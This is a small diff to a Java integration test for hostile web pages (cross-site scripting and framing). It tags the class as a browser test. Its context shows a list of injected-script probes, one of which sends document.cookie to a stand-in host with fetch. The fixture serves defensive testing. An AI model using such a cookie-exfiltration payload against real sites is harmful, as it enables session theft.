@@ -17,12 +17,14 @@ import java.util.ArrayList;
 import java.util.List;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import tools.jackson.databind.JsonNode;
 
 /**
  * What people write to take over the page of others (A6), and pages that use it from outside (A8).
  */
+@Tag("browser")
 final class HostilePagesIT {
   private static final String[] CALLS = {
     "alert(1)", "window.__hit=1", "top.__hit=1", "fetch('//example.org/'+document.cookie)"
